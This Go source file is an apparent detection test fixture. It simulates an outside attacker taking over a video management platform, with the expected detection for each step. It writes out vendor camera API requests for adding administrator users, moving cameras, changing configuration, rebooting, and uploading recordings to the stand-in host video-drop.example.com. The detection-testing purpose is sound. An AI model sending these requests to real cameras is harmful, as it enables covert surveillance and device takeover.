// SPDX-License-Identifier: Apache-2.0

package main

import (
	"fmt"
	"time"

	"stillwatch/internal/testlab/netsim"
)

// s2 is the state of story S2: a video platform is taken over from outside.
type s2 struct {
	*story
	vms, far *netsim.Host
}

// tool is the user agent of the attacker's program on the platform; no recorder uses it.
const tool = "python-requests/2.31.0"

func storyS2(seed uint64) *story {
	o := newOffice(seed, plan{cameras: []int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}, vmsRecords: true})
	s := &s2{story: &story{office: o, title: "the camera platform", summary: "The camera platform vms holds the passwords of all twelve cameras, and its web page is reached from outside in clear text. " +
		"203.0.113.140 logs in, has the platform log in to every camera within five minutes, moves and changes some of them, and watches."}}
	s.live()
	s.vms, s.far = o.vms.host, o.External("203.0.113.140", netsim.Linux, 110*time.Millisecond)
	s.login(day(8, 22, 40, 0))
	s.fanOut(day(8, 22, 46, 0))
	s.move(day(8, 22, 52, 0))
	s.configure(day(8, 22, 56, 0))
	s.watch(day(8, 23, 1, 0))
	s.export(day(8, 23, 5, 0))
	s.expect("D42", "vms", day(8, 23, 5, 0), "one incident: D07, D08, D28, D29, D31, D18 in this order, critical")
	return s.story
}

// login adds Basic authentication over HTTP: one wrong password, then the right one.
func (s *s2) login(at time.Time) {
	o := s.office
	s.attack(at, "203.0.113.140 opens the web page of vms on port 80 and is asked for a password")
	s.expect("D07 (exposure)", "vms", at, "a handshake from outside on the administration port 80 is completed")
	o.meet(at, s.far, s.vms)
	c := o.Dial(at, s.far, s.vms, 80)
	get := func(pw string) netsim.Request {
		r := netsim.Request{Method: "GET", URI: "/vms/index.html", Agent: "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"}
		if pw != "" {
			r.Auth = netsim.Basic("vmsadmin", pw)
		}
		return r
	}
	no := netsim.Unauthorized("Basic", "VMS Server", "", "VMS-Web/2.9")
	c.HTTP(get(""), no).Wait(6*time.Second).HTTP(get("vmsadmin1"), no).Wait(9 * time.Second)
	c.HTTP(get("S3curity-desk"), netsim.Response{Status: 200, Server: "VMS-Web/2.9", Body: "<html><title>VMS - Live</title><body>12 cameras</body></html>"})
	ok := c.Now()
	s.attack(ok, "203.0.113.140 logs in as vmsadmin with Basic, in clear text, at the second try")
	s.expect("D08", "vms", ok, "external login success, told by 401 and then 200 with credentials (explicit: confidence 0.97)")
	s.expect("D26", "vms", ok, "Basic over plain HTTP")
	c.Wait(2*time.Second).HTTP(netsim.Request{Method: "GET", URI: "/vms/api/cameras", Agent: get("").Agent, Auth: netsim.Basic("vmsadmin", "S3curity-desk")},
		netsim.Response{Status: 200, Server: "VMS-Web/2.9", ContentType: "application/json", Body: `{"cameras":12,"online":12}`})
	c.Close()
}

// fanOut adds a login and a stream on each of the twelve cameras.
func (s *s2) fanOut(at time.Time) {
	o := s.office
	s.attack(at, "vms logs in to all twelve cameras over HTTP (Digest, on two of them Basic) and RTSP within five minutes, with a client name that it never used")
	for i, c := range o.cams {
		t := at.Add(time.Duration(i) * 24 * time.Second)
		if i == 2 {
			s.expect("D28", "vms", t, "the third distinct camera within 10 minutes; within the hour after D08 on it; a new client name")
		}
		o.meet(t, s.vms, c.host)
		conn := o.Dial(t, s.vms, c.host, 80)
		ask := netsim.Request{Method: "GET", URI: c.infoURI(), Agent: tool}
		info := netsim.Response{Status: 200, Server: c.brand.httpServer, ContentType: "text/plain", Body: "model=" + c.brand.model + "\r\nversion=" + c.brand.firmware + "\r\n"}
		if i%6 == 5 {
			ask.Auth = netsim.Basic("recorder", o.password)
			conn.HTTP(ask, info)
			s.expect("D26", c.host.Name, t, "Basic over plain HTTP")
		} else {
			conn.HTTPDigest(ask, c.brand.realm, "recorder", o.password, info)
		}
		end := conn.Close()
		o.RTSP(end.Add(2*time.Second), s.vms, c.host, netsim.Stream{Path: c.brand.streamURI, Agent: "Lavf58.29.100", Server: c.brand.rtspServer, Realm: c.brand.realm,
			User: "recorder", Password: o.password, Packets: 2, Every: 200 * time.Millisecond})
	}
	s.expect("D08", "the cameras", at, "each is logged in to over HTTP by a host that never did so (internal)")
	s.expect("D31", "vms", at, "a client name that is in no viewer set plays the streams of the cameras")
	s.expect("D01", "vms", at, "HTTP to cameras is not in its contract, RTSP is")
}

// infoURI returns the path at which a vendor's device reports its model.
func (c *camera) infoURI() string {
	switch {
	case c.brand.hik():
		return "/ISAPI/System/deviceInfo"
	case c.brand.dahua():
		return "/cgi-bin/magicBox.cgi?action=getSystemInfo"
	default:
		return "/axis-cgi/param.cgi?action=list&group=root.Brand"
	}
}

// command sends one request with Digest to a camera.
func (s *s2) command(at time.Time, c *camera, q netsim.Request, body string) time.Time {
	o := s.office
	q.Agent = tool
	o.meet(at, s.vms, c.host)
	return o.Dial(at, s.vms, c.host, 80).HTTPDigest(q, c.brand.realm, "recorder", o.password,
		netsim.Response{Status: 200, Server: c.brand.httpServer, ContentType: "application/xml", Body: body}).Close()
}

// of returns the first k cameras that satisfy a predicate.
func (o *office) of(is func(brand) bool, k int) []*camera {
	var out []*camera
	for _, c := range o.cams {
		if is(c.brand) && len(out) < k {
			out = append(out, c)
		}
	}
	return out
}

// move turns one camera of each vendor: ISAPI, CGI, and ONVIF.
func (s *s2) move(at time.Time) {
	hik, dahua, axis := s.office.of(brand.hik, 1)[0], s.office.of(brand.dahua, 1)[0], s.office.of(brand.axis, 1)[0]
	s.attack(at, "vms turns %s (ISAPI PTZCtrl), %s (ptz.cgi) and %s (ONVIF ContinuousMove)", hik.host.Name, dahua.host.Name, axis.host.Name)
	s.expect("D29 (PTZ)", "vms", at, "movement of three cameras by a host that never moved one, soon after a login from outside on it")
	for i, dir := range []int{60, -60, 60, 0} {
		t := at.Add(time.Duration(i) * 20 * time.Second)
		s.command(t, hik, netsim.ISAPIMove(dir, 0, nil), "<ResponseStatus><statusCode>1</statusCode></ResponseStatus>")
		code := map[bool]string{true: "Left", false: "Right"}[dir < 0]
		s.command(t.Add(4*time.Second), dahua, netsim.Request{Method: "GET", URI: "/cgi-bin/ptz.cgi?action=start&channel=0&code=" + code + "&arg1=0&arg2=5&arg3=0"}, "OK\r\n")
		s.command(t.Add(8*time.Second), axis, netsim.PTZMove(fmt.Sprintf("%.1f", float64(dir)/100), "0.0", nil),
			netsim.SOAP(`<ContinuousMoveResponse xmlns="http://www.onvif.org/ver20/ptz/wsdl"/>`, nil))
	}
}

// configure changes the configuration of cameras: a user on one, an encoder setting on another.
func (s *s2) configure(at time.Time) {
	hik, dahua, axis := s.office.of(brand.hik, 2)[1], s.office.of(brand.dahua, 2)[1], s.office.of(brand.axis, 2)[1]
	s.attack(at, "vms creates a user on %s (ISAPI Security/users) and on %s (ONVIF CreateUsers), changes the configuration of %s (setConfig) and restarts it", hik.host.Name, axis.host.Name, dahua.host.Name)
	s.expect("D29 (users, critical)", "vms", at, "PUT /ISAPI/Security/users, ONVIF CreateUsers")
	s.expect("D29 (pictures, critical)", "vms", at.Add(2*time.Minute), "configManager setConfig")
	s.expect("D29 (restart, critical)", "vms", at.Add(2*time.Minute), "magicBox reboot")
	s.command(at, hik, netsim.Request{Method: "PUT", URI: "/ISAPI/Security/users/2", Header: []string{"Content-Type: application/xml"},
		Body: `<User><id>2</id><userName>svc</userName><password>Qu1et-Harbour</password><userLevel>Administrator</userLevel></User>`}, "<ResponseStatus><statusCode>1</statusCode></ResponseStatus>")
	s.command(at.Add(time.Minute), axis, netsim.Request{Method: "POST", URI: "/onvif/device_service",
		Header: []string{`Content-Type: application/soap+xml; charset=utf-8; action="http://www.onvif.org/ver10/device/wsdl/CreateUsers"`},
		Body: netsim.SOAP(`<CreateUsers xmlns="http://www.onvif.org/ver10/device/wsdl"><User><Username xmlns="http://www.onvif.org/ver10/schema">svc</Username>`+
			`<Password xmlns="http://www.onvif.org/ver10/schema">Qu1et-Harbour</Password><UserLevel xmlns="http://www.onvif.org/ver10/schema">Administrator</UserLevel></User></CreateUsers>`, nil)},
		netsim.SOAP(`<CreateUsersResponse xmlns="http://www.onvif.org/ver10/device/wsdl"/>`, nil))
	s.command(at.Add(2*time.Minute), dahua, netsim.Request{Method: "GET", URI: "/cgi-bin/configManager.cgi?action=setConfig&Encode[0].MainFormat[0].Video.FPS=5"}, "OK\r\n")
	s.command(at.Add(150*time.Second), dahua, netsim.Request{Method: "GET", URI: "/cgi-bin/magicBox.cgi?action=reboot"}, "OK\r\n")
}

// watch adds the attacker playing a stream from the platform.
func (s *s2) watch(at time.Time) {
	s.attack(at, "203.0.113.140 plays a live stream of vms over RTSP (port 554)")
	s.expect("D31 (external, high)", "vms", at, "a viewer from outside")
	s.expect("D07 (exposure)", "vms", at, "a handshake from outside on port 554 is completed")
	s.office.RTSP(at, s.far, s.vms, netsim.Stream{Path: "/Streaming/channels/301", Agent: "LibVLC/3.0.18", Realm: "VMS Server", User: "vmsadmin", Password: "S3curity-desk",
		Packets: 40, PacketBytes: 500, Every: 500 * time.Millisecond})
}

// export uploads recordings: 5.6 MB, of which the capture has only the headers.
func (s *s2) export(at time.Time) {
	o, sink := s.office, s.office.External("203.0.113.151", netsim.Linux, 120*time.Millisecond)
	s.attack(at, "vms asks for video-drop.example.com and sends it 5.6 MB over TLS (the capture keeps only the headers of these frames)")
	s.expect("D01 (external, established: high)", "vms", at, "a session outside its contract")
	s.expect("D18", "vms", at.Add(time.Minute), "more than 5 MB out, and more than five times what came in")
	o.meet(at, s.vms, o.dns.host)
	t := o.Lookup(at, s.vms, o.dns.host, "video-drop.example.com", "203.0.113.151")
	c := o.DialTLS(t.Add(4*time.Millisecond), s.vms, sink, 443, netsim.TLSClient{SNI: "video-drop.example.com"}, netsim.TLSServer{Version: 0x0304})
	c.Records(netsim.Client, 700).Snap(66).Bulk(netsim.Client, 5_600_000, 90*time.Second, 16).Snap(0).Records(netsim.Server, 200).Close()
}
